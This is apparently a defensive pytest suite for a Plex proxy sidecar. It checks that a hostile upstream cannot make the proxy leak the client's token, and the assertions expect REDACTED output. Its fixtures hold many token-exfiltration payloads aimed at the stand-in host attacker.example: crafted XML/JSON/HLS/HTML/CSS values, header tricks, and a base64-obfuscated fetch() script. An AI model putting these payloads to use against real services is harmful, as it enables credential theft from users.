"""Invariants 1 and 3: a malicious Plex that dodges the look-back still gets no client key.

The look-back used to stop at the nearest delimiter (a space, a quote, ``<``, ``>``). Those
characters may sit *inside* a value: a space in a quoted attribute or a JSON string, a ``'``
in a ``"``-quoted attribute, an escaped ``\\"`` in JSON, a space in a playlist line. Every
reader keeps them in the URL (a browser or ``requests`` percent-encodes them), so
``"https://attacker.example/ ?X-Plex-Token=<token>"`` went out with the client's key. So did
a relative URL under an HTML ``<base href>``, a DASH ``<BaseURL>`` or an ``xml:base``, a
script or CSS escape in active content, and a foreign URL more than the look-back window
before the token with delimiters sprinkled in between.

Each test asserts what the client sees: ``REDACTED`` wherever the value that holds the token
starts with (or contains) a URL to another origin, and the key still where legitimate Plex
answers put it.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from conftest import PLEX_TOKEN, MakeSidecar, Running, base_config
from multidict import CIMultiDict

TOK = PLEX_TOKEN
EVIL = "https://attacker.example"
XML, JSON, M3U8, HTML = "text/xml", "application/json", "application/vnd.apple.mpegurl", "text/html"
PAD = "a " * 1100  # 2.2 KiB with delimiters: the foreign authority is beyond the window

# name -> (Content-Type, body): each puts the token in a value that a reader resolves to attacker.example.
ATTACKS: dict[str, tuple[str, str]] = {
    "space-in-xml-attribute": (XML, f'<V thumb="{EVIL}/ ?X-Plex-Token={TOK}"/>'),
    "dquote-in-squoted-attribute": (XML, f"<V thumb='{EVIL}/\"?X-Plex-Token={TOK}'/>"),
    "squote-in-dquoted-attribute": (XML, f'<V thumb="{EVIL}/\'?X-Plex-Token={TOK}"/>'),
    "gt-in-xml-attribute": (XML, f'<V thumb="{EVIL}/>?X-Plex-Token={TOK}"/>'),
    "gt-in-xml-text": (XML, f"<Url>{EVIL}/>?X-Plex-Token={TOK}</Url>"),
    "newline-in-xml-attribute": (XML, f'<V thumb="{EVIL}/\n?X-Plex-Token={TOK}"/>'),
    "xml-cdata": (XML, f"<Url><![CDATA[{EVIL}/ <a>?X-Plex-Token={TOK}]]></Url>"),
    "cr-in-playlist-line": (M3U8, f"#EXTM3U\n#EXTINF:8,\n{EVIL}/s\r?X-Plex-Token={TOK}\n"),
    "xml-internal-entity": (
        XML,
        f'<!DOCTYPE V [<!ENTITY e "{EVIL}/">]><V thumb="&e;?X-Plex-Token={TOK}"/>',
    ),  # an XML parser expands &e; to the attacker's URL
    "xml-base": (XML, f'<V xml:base="{EVIL}/" thumb="/t?X-Plex-Token={TOK}"/>'),
    "long-xml-attribute": (XML, f'<V thumb="{EVIL}/{PAD}?X-Plex-Token={TOK}"/>'),
    "escaped-quote-in-json": (JSON, f'{{"thumb": "{EVIL}/\\"?X-Plex-Token={TOK}"}}'),
    "space-lt-in-json": (JSON, f'{{"thumb": "{EVIL}/ <?X-Plex-Token={TOK}"}}'),
    "mailto-in-json": (JSON, f'{{"contact": "mailto:me@attacker.example?body={TOK}"}}'),  # one tap sends it
    "sms-in-xml": (XML, f'<V link="sms:+15550100?body={TOK}"/>'),
    "long-json-string": (JSON, f'{{"thumb": "{EVIL}/{PAD}?X-Plex-Token={TOK}"}}'),
    "space-in-playlist-line": (M3U8, f"#EXTM3U\n#EXTINF:8,\n{EVIL}/ s.ts?X-Plex-Token={TOK}\n"),
    "space-in-ext-x-key": (M3U8, f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{EVIL}/ k?X-Plex-Token={TOK}"\n'),
    "hls-variable": (
        M3U8,
        f'#EXTM3U\n#EXT-X-DEFINE:NAME="b",VALUE="{EVIL}/"\n#EXTINF:8,\n{{$b}}s.ts?X-Plex-Token={TOK}\n',
    ),  # players substitute {$b} (HLS variables)
    "hls-content-steering": (
        M3U8,
        f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8?X-Plex-Token={TOK}\n"
        f'#EXT-X-CONTENT-STEERING:SERVER-URI="{EVIL}/steer"\n',
    ),  # the steering server clones the pathway onto its own host, key and all
    "sse-data-lines": ("text/event-stream", f"data: {EVIL}/x\ndata: ?X-Plex-Token={TOK}\n\n"),  # one event
    "html-base-href": (HTML, f'<base href="{EVIL}/"><a href="/x?X-Plex-Token={TOK}">x</a>'),
    "html-script": (HTML, f'<script>new Image().src = "{EVIL}/?" + "{TOK}"</script>'),
    "html-meta-refresh-space": (HTML, f'<meta http-equiv="refresh" content="0; url={EVIL}/ ?t={TOK}">'),
    "css-escapes": ("text/css", f"a {{ background: url(\\2f\\2f attacker.example/?t={TOK}) }}"),
    "svg-href": ("image/svg+xml", f'<svg><a xlink:href="{EVIL}/ ?t={TOK}"/></svg>'),
    "dash-base-url": (
        "application/dash+xml",
        f'<MPD><BaseURL>{EVIL}/</BaseURL><SegmentTemplate media="s?X-Plex-Token={TOK}"/></MPD>',
    ),
}

# Legitimate answers: the key stays where the client sends it back to the sidecar.
LEGIT: dict[str, tuple[str, str, str]] = {
    "xml-after-a-foreign-attribute": (
        XML,
        f'<Video thumb="https://metadata.plex.tv/a.jpg" key="/library/parts/1?X-Plex-Token={TOK}"/>',
        'key="/library/parts/1?X-Plex-Token={key}"',
    ),
    "xml-text": (XML, f"<MyPlex><authToken>{TOK}</authToken></MyPlex>", "<authToken>{key}</authToken>"),
    "xml-attribute-with-spaces": (XML, f'<V title="a b" key="/x y?X-Plex-Token={TOK}"/>', '"/x y?X-Plex-Token={key}"'),
    "json-after-a-foreign-value": (
        JSON,
        f'{{"art": "https://metadata.plex.tv/a.jpg", "key": "/library/parts/1?X-Plex-Token={TOK}"}}',
        '"key": "/library/parts/1?X-Plex-Token={key}"',
    ),
    "playlist": (
        M3U8,
        f"#EXTM3U\n#EXTINF:8,\nsession/1/0.ts?X-Plex-Token={TOK}\n",
        "\nsession/1/0.ts?X-Plex-Token={key}\n",
    ),
    "event-stream": ("text/event-stream", f"data: first\n\ndata: {TOK}\n\n", "data: {key}\n\n"),
}


def attacker_plex() -> web.Application:
    app = web.Application()

    async def body(request: web.Request) -> web.Response:
        name = request.query["case"]
        ctype, text = ATTACKS[name] if name in ATTACKS else LEGIT[name][:2]
        return web.Response(body=text.encode(), headers={"Content-Type": ctype})

    async def header(request: web.Request) -> web.Response:
        value = request.query["v"].replace("TOK", TOK)
        return web.Response(status=302, headers={request.query["name"]: value})

    async def multi(request: web.Request) -> web.Response:
        """Two header lines a client joins with ", ", and Content-Types a browser reads by the last one."""
        headers = CIMultiDict([("Link", f"<{EVIL}/"), ("Link", f"?X-Plex-Token={TOK}>; rel=preload; as=image")])
        script = f'<script>var t = "{TOK}"; fetch(atob("aHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlLw==") + t)</script>'
        if request.query.get("ctype") == "two":
            headers.add("Content-Type", "application/json")
            headers.add("Content-Type", "text/html")
        else:
            headers.add("Content-Type", "application/json, text/html")
        return web.Response(body=script.encode(), headers=headers)

    async def ws(request: web.Request) -> web.WebSocketResponse:
        sock = web.WebSocketResponse()
        await sock.prepare(request)
        await sock.send_str(f'{{"u": "{EVIL}/ ?X-Plex-Token={TOK}"}}')
        await sock.send_str(f"{EVIL}/ ?X-Plex-Token={TOK}")
        await sock.send_str(f'<V thumb="{EVIL}/x\n?X-Plex-Token={TOK}"/>')  # XML: the newline becomes a space
        await sock.close()
        return sock

    app.router.add_get("/body", body)
    app.router.add_get("/header", header)
    app.router.add_get("/ws", ws)
    app.router.add_get("/multi", multi)
    return app


Rig = tuple[Running, str]


@pytest.fixture
async def rig(make_sidecar: MakeSidecar, aiohttp_server: Any, tmp_path: Path) -> Rig:
    up: TestServer = await aiohttp_server(attacker_plex())
    run = await make_sidecar(base_config(str(up.make_url("")).rstrip("/"), tmp_path))
    _, key = await run.create_key(permissions={"upstreams": ["*"]})
    return run, key


async def fetch(run: Running, key: str, path: str) -> tuple[int, dict[str, str], str]:
    resp = await run.proxy.get(path, headers={"X-Plex-Token": key}, allow_redirects=False)
    return resp.status, dict(resp.headers), (await resp.read()).decode()


@pytest.mark.parametrize("case", sorted(ATTACKS))
async def test_a_value_that_resolves_to_another_origin_never_gets_the_key(rig: Rig, case: str) -> None:
    run, key = rig
    status, headers, body = await fetch(run, key, f"/body?case={case}")
    assert status == 200
    assert key not in body and TOK not in body, body
    assert "REDACTED" in body
    assert key not in repr(headers)


@pytest.mark.parametrize("case", sorted(LEGIT))
async def test_legitimate_answers_keep_the_key(rig: Rig, case: str) -> None:
    run, key = rig
    status, _, body = await fetch(run, key, f"/body?case={case}")
    assert status == 200
    assert LEGIT[case][2].format(key=key) in body, body
    assert TOK not in body


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Location", f"{EVIL}/ ?X-Plex-Token=TOK"),
        ("Refresh", f"0; url={EVIL}/ ?X-Plex-Token=TOK"),
        ("Link", f"<{EVIL}/ ?X-Plex-Token=TOK>; rel=preload"),
        ("Content-Location", f"{EVIL}/'?X-Plex-Token=TOK"),
        ("Set-Cookie", "plex=TOK; Domain=example.test; Path=/"),  # sent to every *.example.test
    ],
)
async def test_headers_with_a_space_before_the_token(rig: Rig, name: str, value: str) -> None:
    run, key = rig
    status, headers, _ = await fetch(run, key, f"/header?name={name}&v={quote(value, safe='')}")
    assert status == 302
    assert "REDACTED" in headers[name], headers[name]
    assert key not in repr(headers)


async def test_websocket_frames_with_a_space_before_the_token(rig: Rig) -> None:
    run, key = rig
    async with run.proxy.ws_connect("/ws", headers={"X-Plex-Token": key}) as sock:
        frames = [await asyncio.wait_for(sock.receive(), 5) for _ in range(3)]
    for frame in frames:
        assert frame.type == aiohttp.WSMsgType.TEXT
        assert "REDACTED" in frame.data and key not in frame.data and TOK not in frame.data


@pytest.mark.parametrize("ctype", ["two", "comma"])
async def test_header_lines_are_read_together_and_an_ambiguous_type_gets_no_key(rig: Rig, ctype: str) -> None:
    """``Link: <https://attacker.example/`` + ``Link: ?t=<token>>`` is one preload URL once joined; two
    Content-Types (or a list) are read by the last, ``text/html``: a script there reads a bare value."""
    run, key = rig
    resp = await run.proxy.get(f"/multi?ctype={ctype}", headers={"X-Plex-Token": key})
    body = (await resp.read()).decode()
    assert resp.status == 200
    assert key not in repr(resp.headers) and TOK not in repr(resp.headers)
    assert key not in body and TOK not in body and "REDACTED" in body
